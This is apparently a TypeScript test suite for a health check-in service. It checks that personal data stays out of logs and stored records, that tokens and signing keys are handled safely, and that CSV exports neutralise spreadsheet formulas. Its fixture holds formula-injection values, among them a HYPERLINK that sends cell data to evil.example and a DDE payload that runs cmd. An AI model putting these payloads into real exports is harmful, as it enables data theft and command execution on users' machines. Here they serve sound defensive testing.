import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PutCommand, ScanCommand } from "@aws-sdk/lib-dynamodb";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { vnDay } from "#domain/vn-time";
import { makeFacilityStore } from "#functions/stores/facility-store";
import fixtures from "#gateway-mock/fixtures.json" with { type: "json" };
import { makeDevAuth } from "#infra/local/dev-auth";
import { PROJECT_ROOT } from "#infra/project-root";
import { captureOutput } from "#test/support/capture-output";
import { parseCsv } from "#test/support/csv";
import { startTestApp, type TestApp } from "#test/support/local-app";

const people = fixtures.people;
/** Facility names a spreadsheet would run as formulas. */
const FORMULA_FACILITIES = [
  { code: "01901", name: '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', provinceCode: "001" },
  { code: "01902", name: "+SUM(1,2)", provinceCode: "001" },
  { code: "01903", name: "-2+3", provinceCode: "001" },
  { code: "01904", name: "@cmd|' /C calc'!A0", provinceCode: "001" },
  { code: "01905", name: "\t=1+1", provinceCode: "001" },
];

const escapeRegExp = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");

/** Every way a person's data could show up in clear in a text. */
function clearTextsOf(person: (typeof people)[number]): string[] {
  const [y, m, d] = person.birthDate.split("-");
  return [
    person.idNumber,
    person.name,
    person.name.normalize("NFD"),
    person.address,
    person.address.normalize("NFD"),
    person.birthDate,
    `${d}${m}${y}`,
    `${d}/${m}/${y}`,
    person.qr,
    ...(person.oldIdNumber === "" ? [] : [person.oldIdNumber]),
  ];
}

describe("personal data: logs of every route, what is stored, CSV exports, tokens and the signing key", () => {
  let t: TestApp;
  let output: ReturnType<typeof captureOutput> | undefined;
  const statuses = new Map<string, Set<number>>();
  const facility = "01001";

  beforeAll(async () => {
    process.env.LOG_LEVEL = "INFO";
    output = captureOutput();
    // Tight per-user limits so the run also goes through the 429 path.
    t = await startTestApp({
      rateLimits: {
        stage: { rate: 1000, burst: 2000 },
        perUser: { rate: 50, burst: 150 },
        perFacility: { rate: 500, burst: 1000 },
      },
    });
  });
  afterAll(async () => {
    output?.restore();
    await t?.stop();
  });

  const call = async (...args: Parameters<TestApp["call"]>) => {
    const res = await t.call(...args);
    const route = `${args[0]} ${args[1].split("?")[0]}`;
    statuses.set(route, (statuses.get(route) ?? new Set()).add(res.status));
    return res;
  };

  it("logs no ID number, name, address, birth date, old ID number or raw QR of anyone, on any route or error", async () => {
    const reception = await t.token("receptionist", { facility });
    const kiosk = await t.token("kiosk", { facility: "38001" });
    const national = await t.token("health-dept");
    const provincial = await t.token("health-dept", { province: "001" });
    // First, while the breaker is closed: pending check-ins while the gateway fails, then re-checked
    // by the receptionist and by the schedule.
    await t.setGatewayFaults({ errorRate: 1, timeoutRate: 0, latencyMs: 0 });
    const pendingPeople = people.slice(0, 3);
    for (const p of pendingPeople) {
      await call("POST", "/api/checkins", {
        token: await t.token("receptionist", { facility: "79001" }),
        body: { method: "qr-cccd", payload: p.qr },
      });
    }
    await t.setGatewayFaults({ errorRate: 0, timeoutRate: 0, latencyMs: 0 });
    const recheck = await call("POST", "/api/checkins/recheck", {
      token: await t.token("receptionist", { facility: "79001" }),
    });
    expect(recheck.json).toMatchObject({ settled: pendingPeople.length });
    const { handler: reverify } = await import("#functions/handlers/reverify");
    await reverify();

    for (const [i, p] of people.entries()) {
      await call("POST", "/api/lookups", { token: reception, body: { method: "qr-cccd", payload: p.qr } });
      await call("POST", "/api/lookups", {
        token: reception,
        body: { method: "manual-id", payload: p.idNumber },
      });
      await call("POST", "/api/checkins", {
        token: i % 2 === 0 ? reception : kiosk,
        headers: { "idempotency-key": `pd-${p.idNumber}` },
        body: { method: i % 3 === 0 ? "qr-vneid" : "qr-cccd", payload: p.qr },
      });
      await call("POST", "/api/checkins", {
        token: reception,
        body: { method: "manual-id", payload: p.idNumber },
      });
      await call("POST", "/api/checkins", {
        token: reception,
        body: { method: "bhyt-card", payload: p.registry?.cardCode ?? p.idNumber },
      });
      // Errors with the person's data in the request: a broken QR (422), the same key for another body (409).
      await call("POST", "/api/checkins", {
        token: reception,
        body: { method: "qr-cccd", payload: p.qr.replace(/\|\d{8}\|/, "|31021990|") },
      });
      await call("POST", "/api/checkins", {
        token: reception,
        headers: { "idempotency-key": `pd-${p.idNumber}` },
        body: { method: "qr-cccd", payload: `${p.qr}|` },
      });
      await call("POST", "/api/checkins", {
        token: reception,
        body: { method: "qr-cccd", payload: p.qr, note: p.name },
      });
      await call("POST", "/api/lookups", {
        token: reception,
        headers: { "content-type": "text/plain" },
        body: p.qr,
      });
    }
    await call("GET", "/api/checkins?date=today", { token: reception });
    await call("GET", "/api/checkins?date=today&limit=2", { token: reception });
    for (const query of ["", "?groupBy=province", "?format=csv", "?province=001&format=csv", "?groupBy=x"]) {
      await call("GET", `/api/reports/scan-rate${query}`, { token: national });
      await call("GET", `/api/reports/scan-rate${query}`, { token: provincial });
    }
    await call("GET", "/api/reports/scan-rate?province=038", { token: provincial });
    await call("GET", "/api/checkins", { token: "not-a-token" });
    await call("POST", "/api/checkins", {
      token: national,
      body: { method: "qr-cccd", payload: people[0]?.qr },
    });
    await call("DELETE", "/api/checkins", { token: reception });
    await call("POST", "/api/checkins", {
      token: reception,
      body: { method: "qr-cccd", payload: `${people[0]?.qr}${"x".repeat(20_000)}` },
    });
    // The kiosk's user is flooded until the limiter answers 429.
    for (let i = 0; i < 250; i++) await call("GET", "/api/checkins?date=today", { token: kiosk });
    // Last, a 500: an item the list cannot read back (written behind the API's back).
    await t.doc.send(
      new PutCommand({
        TableName: t.names.checkins,
        Item: { pk: `CHK#01950#${vnDay(new Date())}`, sk: "corrupt", note: "not a check-in" },
      }),
    );
    const broken = await call("GET", "/api/checkins?date=today", {
      token: await t.token("receptionist", { facility: "01950" }),
    });
    expect(broken.status).toBe(500);
    expect(broken.text).not.toMatch(/Zod|corrupt|checkinId|stack|aws/i);

    const seen = Object.fromEntries([...statuses].map(([route, set]) => [route, [...set].sort()]));
    console.log(`personal data run: statuses seen ${JSON.stringify(seen)}`);
    const allStatuses = new Set([...statuses.values()].flatMap((set) => [...set]));
    for (const status of [200, 201, 400, 401, 403, 404, 409, 413, 415, 422, 429, 500])
      expect(allStatuses, `status ${status} exercised`).toContain(status);

    const log = output?.text() ?? "";
    expect(log).toContain('"message":"check-in"');
    expect(log).toContain('"message":"lookup"');
    expect(log).toContain('"message":"report"');
    expect(log).toContain('"message":"reverify run"');
    expect(log).toContain('"message":"failed"');
    for (const p of people) {
      for (const clear of clearTextsOf(p)) expect(log, `${p.idNumber} leaks "${clear}"`).not.toContain(clear);
    }
  });

  it("stores only what the contract needs: no address, no old ID number, no raw QR payload", async () => {
    const found: string[] = [];
    // An old ID number is a whole number: "012345678" inside the card code DN4010123456789 is not one.
    const forbidden = people.flatMap((p) => [
      new RegExp(escapeRegExp(p.address)),
      new RegExp(escapeRegExp(p.qr)),
      ...(p.oldIdNumber === "" ? [] : [new RegExp(`(?<!\\d)${p.oldIdNumber}(?!\\d)`)]),
    ]);
    for (const table of [t.names.checkins, t.names.counters, t.names.idempotency]) {
      let start: Record<string, unknown> | undefined;
      let items = 0;
      do {
        const page = await t.doc.send(new ScanCommand({ TableName: table, ExclusiveStartKey: start }));
        for (const item of page.Items ?? []) {
          items++;
          const text = JSON.stringify(item);
          if (/"(address|diaChi|oldIdNumber|cmnd|payload|qr|raw)"\s*:/i.test(text))
            found.push(`${table}: ${text}`);
          for (const value of forbidden) {
            const at = text.search(value);
            if (at >= 0)
              found.push(`${table} holds ${value}: …${text.slice(Math.max(0, at - 60), at + 40)}…`);
          }
        }
        start = page.LastEvaluatedKey;
      } while (start !== undefined);
      expect(items).toBeGreaterThan(0);
    }
    expect(found).toEqual([]);
  });

  it("neutralises facility names that a spreadsheet would run as formulas in the CSV export", async () => {
    await makeFacilityStore(t.doc, t.names.facilities).putFacilities(FORMULA_FACILITIES);
    for (const [i, f] of FORMULA_FACILITIES.entries()) {
      const res = await t.call("POST", "/api/checkins", {
        token: await t.token("receptionist", { facility: f.code }),
        body: { method: "manual-id", payload: people[i]?.idNumber },
      });
      expect(res.status).toBe(201);
    }
    const national = await t.token("health-dept");
    const res = await t.call(
      "GET",
      `/api/reports/scan-rate?province=001&format=csv&to=${vnDay(new Date())}`,
      {
        token: national,
      },
    );
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    const rows = parseCsv(res.text.replace(/^\uFEFF/, ""));
    const header = rows[0] ?? [];
    const nameColumn = header.indexOf("name");
    const facilityColumn = header.indexOf("facility");
    for (const f of FORMULA_FACILITIES) {
      const row = rows.find((r) => r[facilityColumn] === f.code);
      expect(row?.[nameColumn], f.code).toBe(`'${f.name}`);
    }
    for (const row of rows) for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("expires tokens and generates the signing key per install, kept out of git", async () => {
    const dir = mkdtempSync(join(tmpdir(), "tiepdon-keys-"));
    try {
      const install = await makeDevAuth(join(dir, "a", "dev-signing-key.json"));
      const otherInstall = await makeDevAuth(join(dir, "b", "dev-signing-key.json"));
      const sameInstallLater = await makeDevAuth(join(dir, "a", "dev-signing-key.json"));
      expect(statSync(join(dir, "a", "dev-signing-key.json")).mode & 0o077).toBe(0);
      const token = await install.mint({ role: "receptionist", facility }, { expiresInSeconds: 1 });
      expect(await sameInstallLater.verify(token)).not.toBeNull();
      expect(await otherInstall.verify(token)).toBeNull();
      await new Promise((resolve) => setTimeout(resolve, 2100));
      expect(await install.verify(token)).toBeNull();
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
    const git = (...args: string[]) => execFileSync("git", args, { cwd: PROJECT_ROOT, encoding: "utf8" });
    // Exit code 0 means ignored; a tracked or unignored key file would throw here.
    git("check-ignore", "-q", ".data/dev-signing-key.json");
    const tracked = git("ls-files").split("\n");
    expect(tracked.filter((path) => /(^|\/)\.data\/|signing-key|\.pem$|\.key$|\.jwk$/.test(path))).toEqual(
      [],
    );
    let privateJwkFiles: string[] = [];
    try {
      privateJwkFiles = git("grep", "-l", "-I", "-E", '"d"[[:space:]]*:[[:space:]]*"[A-Za-z0-9_-]{40,}"')
        .split("\n")
        .filter((line) => line !== "");
    } catch (error) {
      // git grep exits 1 when nothing matches.
      if ((error as { status?: number }).status !== 1) throw error;
    }
    expect(privateJwkFiles).toEqual([]);
  });
});
